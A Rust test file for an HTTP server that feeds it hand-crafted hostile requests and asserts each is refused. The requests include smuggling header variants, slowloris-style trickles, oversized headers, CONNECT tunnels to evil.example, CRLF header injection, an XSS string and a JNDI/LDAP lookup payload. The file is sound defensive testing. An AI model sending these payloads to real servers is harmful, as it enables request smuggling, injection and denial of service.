//! Requests written by hand to confuse, to smuggle, or to keep the server busy. Each is refused with its
//! status or answered as what it is; the questions that were answered are counted, so that one that was
//! smuggled in shows.

use super::client::{Connection, post};
use super::fakes;
use super::server::{Server, settings, start_with};
use alfred::clock::{Clock as _, Deadline, SystemClock};
use alfred::domain::Query;
use alfred::http::Settings;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

const QUERY: &[u8] = br#"{"query": "a"}"#;
const JSON: &str = "content-type: application/json\r\n";

/// A server that counts the questions that it answers.
struct Counting {
    server: Server,
    answered: Arc<AtomicUsize>,
}

impl Counting {
    fn start(change: impl FnOnce(&mut Settings)) -> Self {
        let mut settings = settings();
        change(&mut settings);
        let answered = Arc::new(AtomicUsize::new(0));
        let counter = Arc::clone(&answered);
        let answer = move |query: &Query, deadline: Deadline| {
            counter.fetch_add(1, Ordering::SeqCst);
            fakes::instant_answer(query, deadline)
        };
        Self {
            server: start_with(settings, Arc::new(answer)),
            answered,
        }
    }

    fn connect(&self) -> Connection {
        self.server.connect()
    }

    /// Nobody asked anything, and whoever does now is answered.
    #[track_caller]
    fn assert_nothing_came_in(&self) {
        assert_eq!(self.answered.load(Ordering::SeqCst), 0);
        assert_eq!(self.connect().post("/v1/query", QUERY).status, 200);
        assert_eq!(self.answered.swap(0, Ordering::SeqCst), 1);
    }
}

/// A question as the bytes of a whole request.
fn question() -> String {
    String::from_utf8(post("/v1/query", JSON, QUERY)).unwrap()
}

#[test]
fn heads_that_two_readers_may_read_in_two_ways_are_400_and_smuggle_nothing() {
    let server = Counting::start(|_| {});
    let length = question().len();
    for headers in [
        "content-length: 0\r\ntransfer-encoding: chunked\r\n",
        "transfer-encoding: chunked\r\ntransfer-encoding: identity\r\n",
        "transfer-encoding: identity, chunked\r\n",
        "transfer-encoding: chunked, chunked\r\n",
        "transfer-encoding: xchunked\r\n",
        "transfer-encoding: chunked;x=y\r\n",
        "transfer-encoding: \"chunked\"\r\n",
        "transfer-encoding:\r\n",
        "transfer-encoding : chunked\r\n",
        " transfer-encoding: chunked\r\n",
        "transfer-encoding\t: chunked\r\n",
        "x: y\r\n transfer-encoding: chunked\r\n",
        "transfer-encoding: chunked\rx: y\r\n",
        "transfer\0-encoding: chunked\r\n",
        "content-length: 0\r\ncontent-length: 5\r\n",
        "content-length: 5, 0\r\n",
        "content-length: +0\r\n",
        "content-length: -0\r\n",
        "content-length: 0x0\r\n",
        "content-length: 0 0\r\n",
        "content-length: 0.0\r\n",
        "content-length:\r\n",
        "content-length: 99999999999999999999\r\n",
        "content-length : 0\r\n",
        "content-length: 0\0\r\n",
        "host: localhost\r\n",
        "host: evil.example\r\n",
    ] {
        let mut connection = server.connect();
        connection.send(format!(
            "POST /nowhere HTTP/1.1\r\nhost: localhost\r\n{headers}\r\n0\r\n\r\n{}",
            question()
        ));
        let reply = connection.reply();
        assert_eq!(reply.status, 400, "{headers:?}: {}", reply.json());
        reply.problem(400);
        connection.assert_closed();
    }
    server.assert_nothing_came_in();
    // What a body holds is a body, however much it looks like a question.
    let mut connection = server.connect();
    connection.send(format!(
        "POST /v1/documents HTTP/1.1\r\nhost: localhost\r\n{JSON}content-length: {length}\r\n\r\n{}",
        question()
    ));
    connection.reply().problem(400);
    server.assert_nothing_came_in();
}

#[test]
fn first_lines_that_are_none_are_400() {
    let server = Counting::start(|_| {});
    for line in [
        "POST  /v1/query HTTP/1.1",
        "POST /v1/query",
        "POST /v1/query HTTP/1.1 ",
        "POST /v1/query HTTP/2.0",
        "POST /v1/query HTTP/0.9",
        "POST /v1/query http/1.1",
        "POST /v1/ query HTTP/1.1",
        "POST\t/v1/query\tHTTP/1.1",
        "P\0ST /v1/query HTTP/1.1",
        "POST /v1/\u{1}query HTTP/1.1",
        ": POST /v1/query HTTP/1.1",
    ] {
        let mut connection = server.connect();
        connection.send(format!("{line}\r\nhost: localhost\r\n\r\n{}", question()));
        let reply = connection.reply();
        assert_eq!(reply.status, 400, "{line:?}");
        connection.assert_closed();
    }
    server.assert_nothing_came_in();
}

#[test]
fn a_host_that_is_missing_twice_there_or_not_ours_is_refused() {
    let server = Counting::start(|_| {});
    for (hosts, status) in [
        ("", 400),
        ("host: localhost\r\nhost: localhost\r\n", 400),
        ("host: evil.example\r\n", 403),
        ("host: localhost@evil.example\r\n", 403),
        ("host: evil.example:80\r\n", 403),
    ] {
        let mut connection = server.connect();
        let length = QUERY.len();
        connection.send(format!(
            "POST /v1/query HTTP/1.1\r\n{hosts}{JSON}content-length: {length}\r\n\r\n"
        ));
        let _ = connection.try_send(QUERY);
        let reply = connection.reply();
        assert_eq!(reply.status, status, "{hosts:?}");
    }
    server.assert_nothing_came_in();
}

#[test]
fn headers_of_600_kb_are_431_however_they_are_cut() {
    let server = Counting::start(|_| {});
    let one = format!("x: {}\r\n", "y".repeat(600_000));
    let many = format!("x: {}\r\n", "y".repeat(994)).repeat(610);
    let name = format!("{}: y\r\n", "x".repeat(600_000));
    let short = "x: y\r\n".repeat(100_000);
    let cookie = format!("cookie: {}\r\n", "a=b; ".repeat(120_000));
    for headers in [one, many, name, short, cookie] {
        assert!(headers.len() >= 600_000);
        let mut connection = server.connect();
        // The server has answered and closed before all of it was sent.
        let _ = connection.try_send(format!(
            "POST /v1/query HTTP/1.1\r\nhost: localhost\r\n{headers}\r\n{}",
            question()
        ));
        connection.reply().problem(431);
        connection.assert_closed();
    }
    server.assert_nothing_came_in();
}

#[test]
fn chunks_without_end_are_ended() {
    let server = Counting::start(|settings| settings.body_timeout_ms = 400);
    let head = format!(
        "POST /v1/query HTTP/1.1\r\nhost: localhost\r\n{JSON}transfer-encoding: chunked\r\n\r\n"
    );
    let endless = |piece: &str, first: &str| {
        let mut connection = server.connect();
        connection.send(format!("{head}{first}"));
        // Far more than the limit of 64 KiB; the server stops reading long before.
        for _ in 0..20_000 {
            if connection.try_send(piece).is_err() {
                break;
            }
        }
        let reply = connection.reply();
        connection.assert_closed();
        reply
    };
    // Chunk after chunk, one chunk, one extension, one size, one trailer.
    endless("400\r\n                \r\n", "").problem(400);
    endless(&format!("64\r\n{}\r\n", " ".repeat(100)), "").problem(413);
    endless(&" ".repeat(100), "fffffff\r\n").problem(413);
    endless("extension", "5;").problem(400);
    endless("0000000000", "").problem(400);
    // The question was there already, so it is answered or not; the end of its body never came.
    let trailers = endless("x: yyyyyyyy\r\n", "e\r\n{\"query\": \"a\"}\r\n0\r\n");
    assert_eq!(trailers.status, 400);
    // And one that just stops.
    let mut silent = server.connect();
    silent.send(format!("{head}5\r\n{{\"que\r\n"));
    silent.reply().problem(408);
    silent.assert_closed();
    server.assert_nothing_came_in();
}

/// The limit is of the whole body: bytes that trickle in do not put it off.
#[test]
fn a_body_that_trickles_in_is_408_in_time() {
    const LIMIT: Duration = Duration::from_millis(500);
    let server = Counting::start(|settings| settings.body_timeout_ms = 500);
    for framing in ["content-length: 1000", "transfer-encoding: chunked"] {
        let mut connection = server.connect();
        let started = SystemClock.monotonic();
        connection.send(format!(
            "POST /v1/query HTTP/1.1\r\nhost: localhost\r\n{JSON}{framing}\r\n\r\n"
        ));
        let piece = if framing.contains("chunked") {
            "1\r\n \r\n"
        } else {
            " "
        };
        // A byte each tenth of the limit, as one that sends less than a byte a second against 30 s.
        while started.elapsed() < 10 * LIMIT && connection.try_send(piece).is_ok() {
            std::thread::park_timeout(LIMIT / 10);
            if connection.has_reply() {
                break;
            }
        }
        let took = started.elapsed();
        assert_eq!(connection.reply().problem(408)["kind"], "slow_request");
        assert!(took >= LIMIT && took < 6 * LIMIT, "{framing}: {took:?}");
        connection.assert_closed();
    }
    server.assert_nothing_came_in();
}

#[test]
fn garbage_behind_a_request_is_refused_after_its_reply() {
    let server = Counting::start(|_| {});
    for garbage in [
        &b"\0\0\0\0\0\0\0\0\r\n\r\n"[..],
        b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\r\n\r\n",
        b"HTTP/1.1 200 OK\r\ncontent-length: 0\r\n\r\n",
        b"{\"query\": \"a\"}\r\n\r\n",
        b"SSH-2.0-OpenSSH_9.6\r\n\r\n",
        b"*1\r\n$4\r\nPING\r\n\r\n",
        b"EHLO mail.example\r\n\r\n",
    ] {
        let mut connection = server.connect();
        connection.send([&post("/v1/query", JSON, QUERY), garbage].concat());
        assert_eq!(connection.reply().status, 200);
        connection.reply().problem(400);
        connection.assert_closed();
    }
    assert_eq!(server.answered.swap(0, Ordering::SeqCst), 7);
    server.assert_nothing_came_in();
}

#[test]
fn upgrades_are_not_made_and_tunnels_not_opened() {
    let server = Counting::start(|_| {});
    let upgrades = [
        "connection: upgrade\r\nupgrade: websocket\r\nsec-websocket-version: 13\r\n\
         sec-websocket-key: dGhlIHNhbXBsZSBub25jZQ==\r\n",
        "connection: upgrade, http2-settings\r\nupgrade: h2c\r\nhttp2-settings: AAMAAABkAAQAoAAAAAIAAAAA\r\n",
        "connection: upgrade\r\nupgrade: TLS/1.2\r\n",
    ];
    for headers in upgrades {
        let mut connection = server.connect();
        connection.send(format!(
            "GET /healthz HTTP/1.1\r\nhost: localhost\r\n{headers}\r\n"
        ));
        let reply = connection.reply();
        assert_eq!(reply.status, 200, "{headers}");
        assert_eq!(reply.header("upgrade"), "");
        // It is HTTP/1.1 as before.
        assert_eq!(connection.get("/healthz").status, 200);
        connection.send("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
        connection.reply().problem(400);
        connection.assert_closed();
    }
    for (line, statuses) in [
        ("CONNECT evil.example:443 HTTP/1.1", [400, 403, 404, 405]),
        ("CONNECT localhost:22 HTTP/1.1", [400, 403, 404, 405]),
        ("TRACE / HTTP/1.1", [400, 403, 404, 405]),
        ("OPTIONS * HTTP/1.1", [400, 403, 404, 405]),
    ] {
        let mut connection = server.connect();
        connection.send(format!(
            "{line}\r\nhost: localhost\r\nx-secret: 12345\r\n\r\n"
        ));
        let reply = connection.reply();
        assert!(statuses.contains(&reply.status), "{line}: {}", reply.status);
        let body = String::from_utf8_lossy(&reply.body);
        assert!(!body.contains("12345"), "{line}: {body}");
    }
    server.assert_nothing_came_in();
}

/// What comes back in headers cannot begin another.
#[test]
fn nothing_is_put_into_the_headers_of_a_reply() {
    let server = Counting::start(|_| {});
    let long = "i".repeat(7_000);
    for id in [
        "a\rset-cookie: b",
        "a\u{b}b",
        "a\u{7f}b",
        "\u{1b}[31m",
        "é\u{9b}",
        "<script>alert(1)</script>",
        "{{7*7}}${jndi:ldap://evil.example}",
        &long,
    ] {
        for header in ["x-request-id", "traceparent", "tracestate"] {
            let mut connection = server.connect();
            connection.send(format!(
                "GET /nowhere HTTP/1.1\r\nhost: localhost\r\n{header}: {id}\r\n\r\n"
            ));
            let reply = connection.reply();
            assert!(matches!(reply.status, 400 | 404 | 431), "{header} {id:?}");
            assert_eq!(reply.header("set-cookie"), "");
            let shown = reply.header("x-request-id");
            assert!(shown.len() <= 256, "{} bytes", shown.len());
            assert!(
                shown.chars().all(|c| c.is_ascii_graphic() || c == ' '),
                "{shown:?}"
            );
            assert_eq!(reply.json()["request_id"], shown);
        }
    }
    for path in [
        "/%0d%0aset-cookie:%20a=b",
        "/v1/documents/%0d%0aset-cookie:%20a=b",
        "/v1/runs/%0d%0aset-cookie:%20a=b",
        "/v1/collections/%0d%0aset-cookie:%20a=b",
        "/v1/documents?source=%0d%0aset-cookie:%20a=b",
        "/v1/documents?cursor=%0d%0aset-cookie:%20a=b&limit=%0d%0a",
    ] {
        for method in ["GET", "DELETE"] {
            let mut connection = server.connect();
            let reply = connection.request(method, path);
            assert!(reply.status < 500, "{method} {path}: {}", reply.status);
            assert_eq!(reply.header("set-cookie"), "", "{method} {path}");
        }
    }
    server.assert_nothing_came_in();
}
